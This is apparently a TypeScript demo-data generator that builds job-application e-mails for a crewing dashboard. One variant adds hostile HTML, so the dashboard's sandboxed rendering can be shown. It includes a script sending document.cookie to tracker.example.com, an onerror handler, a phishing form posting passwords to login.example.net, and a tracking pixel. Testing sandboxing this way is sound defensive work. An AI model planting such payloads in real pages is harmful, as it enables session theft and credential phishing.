// Inbound application e-mails (email_receipts): plain text, a markdown-ish rich body and an HTML body.
// One receipt of the first organization carries hostile HTML (script, event handler, form, remote
// tracking pixel) so the dashboard's sandboxed rendering can be demonstrated.
import { demoUuid, type Rng } from "./random.js";
import { DEMO_ORGANIZATIONS } from "./organizations.js";

// The receipt with hostile HTML, in the first demo organization.
export const SANDBOX_DEMO_RECEIPT_ID = demoUuid(DEMO_ORGANIZATIONS[0]!.id, "email_receipt", "sandbox-demo");

export interface EmailInput {
  from: string;
  to: string;
  senderName: string;
  rankText: string;
  postingTitle: string;
  shortId: string;
  vesselName: string;
  attachments: string[];
  phone: string | null;
  lastVessel: string | null;
}

const escapeHtml = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

export function applicationEmail(rng: Rng, input: EmailInput, hostile: boolean) {
  const subject = rng.pick([
    `Application for ${input.postingTitle} (${input.shortId})`,
    `CV - ${input.rankText} ${input.senderName}`,
    `Applying as ${input.rankText} (ref ${input.shortId})`,
    `Re: vacancy ${input.shortId} — ${input.senderName}`,
  ]);
  const greeting = rng.pick(["Dear Sir/Madam,", "Good day Sir,", "Dear crewing team,", "Hello,"]);
  const intro = `I would like to apply for the position of ${input.rankText} (${input.shortId}) on ${input.vesselName}.`;
  const experience = input.lastVessel
    ? `My last contract was on ${input.lastVessel}. All my certificates are valid and I am available from next month.`
    : "All my certificates are valid and I am ready to join on short notice.";
  const closing = rng.pick(["Best regards,", "Thank you and God bless,", "Kind regards,", "Respectfully yours,"]);
  const attachmentsLine = `Attached: ${input.attachments.join(", ")}.`;
  const contact = input.phone ? `Mobile/WhatsApp: ${input.phone}` : "";

  const text = [greeting, "", intro, experience, attachmentsLine, "", closing, input.senderName, contact]
    .filter((l, i, a) => l !== "" || a[i - 1] !== "")
    .join("\n");
  const rich = [
    greeting,
    "",
    intro,
    "",
    `**Experience:** ${experience}`,
    "",
    "**Attachments**",
    ...input.attachments.map((a) => `- ${a}`),
    "",
    closing,
    `*${input.senderName}*`,
    contact,
  ].join("\n");

  let html =
    `<html><body style="font-family: Arial, sans-serif; font-size: 14px">` +
    `<p>${escapeHtml(greeting)}</p><p>${escapeHtml(intro)}</p><p>${escapeHtml(experience)}</p>` +
    `<p><b>Attachments:</b></p><ul>${input.attachments.map((a) => `<li>${escapeHtml(a)}</li>`).join("")}</ul>` +
    `<p>${escapeHtml(closing)}<br><b>${escapeHtml(input.senderName)}</b>${contact ? `<br>${escapeHtml(contact)}` : ""}</p>`;
  if (hostile) {
    // Everything below must stay inert in the dashboard: no script runs, no form posts, no pixel loads.
    html +=
      `<script>fetch("https://tracker.example.com/steal?c=" + document.cookie)</script>` +
      `<img src="x" onerror="alert('onerror handler ran: the e-mail HTML is not sandboxed')">` +
      `<form action="https://login.example.net/verify" method="post"><p>Confirm your crewing account:</p>` +
      `<input name="user" placeholder="E-mail"><input name="password" type="password" placeholder="Password"><button type="submit">Verify</button></form>` +
      `<img src="https://tracker.example.com/p.gif" width="1" height="1" alt="">`;
  }
  html += `</body></html>`;
  const summary = `${input.senderName} applies for ${input.rankText} (${input.shortId}), ${input.attachments.length} attachment${input.attachments.length === 1 ? "" : "s"}`;
  return { subject, text, rich, html, summary };
}
